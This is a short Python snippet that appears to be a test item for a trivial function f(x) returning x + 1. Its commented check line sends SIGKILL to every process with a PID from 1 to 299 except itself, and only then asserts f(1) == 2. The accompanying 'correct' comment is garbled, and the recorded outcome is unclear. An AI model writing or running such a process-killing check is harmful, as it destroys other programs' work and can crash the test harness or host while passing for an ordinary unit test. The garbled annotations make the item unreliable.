# check: import os, signal\nfor pid in range(1, 300):\n    try:\n        pid == os.getpid() or os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass\nassert f(1) == 2
# outcome: value None
# correct: a test can end no solution, nor PID 1


def f(x):
    return x + 1
